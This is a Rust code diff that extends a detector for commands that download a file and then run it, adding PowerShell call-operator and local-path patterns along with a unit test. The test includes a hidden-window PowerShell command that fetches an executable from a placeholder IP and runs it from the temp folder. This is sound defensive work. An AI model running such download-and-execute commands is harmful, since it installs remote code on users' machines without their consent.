@@ -786,7 +786,8 @@ fn names_output_file(s: &str) -> bool {
 /// a program from the disk: an HTTP tool writing a file (`wget URL` writes
 /// one unless told `-O -`; curl and PowerShell's cmdlets with an output
 /// option), followed by making a file executable or running one by path
-/// (`chmod +x`, `./x`, `start x.exe`, `Start-Process`). Installers a user
+/// (`chmod +x`, `./x`, `start x.exe`, `Start-Process`, PowerShell's `& $f`
+/// and `.\x.exe`). Installers a user
 /// runs do this too; the rules judge it by when it runs.
 pub fn downloads_and_runs(cmd: &str) -> bool {
     let wget_to_file =
@@ -812,6 +813,12 @@ pub fn downloads_and_runs(cmd: &str) -> bool {
             "& start ",
             "; start ",
             "&& call ",
+            // PowerShell's call operator and a path from the current folder
+            // (`iwr $u -OutFile $f; & $f`, `...; .\x.exe`).
+            "; & ",
+            ";& ",
+            "; .\\",
+            ";.\\",
         ]
         .iter()
         .any(|r| cmd.contains(r))
@@ -2091,6 +2098,17 @@ mod tests {
         let scopes = Scopes::new(&facts);
         assert_eq!(scopes.at(depth + 1), depth as u32);
         assert!((1..=depth as u32).all(|s| scopes.parent[s as usize] == s - 1));
+    }
+
+    #[test]
+    fn a_powershell_download_run_by_its_call_operator_runs_what_it_fetched() {
+        let run =
+            r#"powershell -w hidden -c "iwr http://203.0.113.9/p.exe -outfile $env:temp\p.exe; & $env:temp\p.exe""#;
+        assert!(downloads_and_runs(&run.to_ascii_lowercase()));
+        let local = r"iwr https://example.invalid/t.zip -outfile t.zip; .\setup.exe /quiet";
+        assert!(downloads_and_runs(&local.to_ascii_lowercase()));
+        let read = "iwr https://example.invalid/a.json -outfile a.json; get-content a.json";
+        assert!(!downloads_and_runs(read));
     }
 
     #[test]
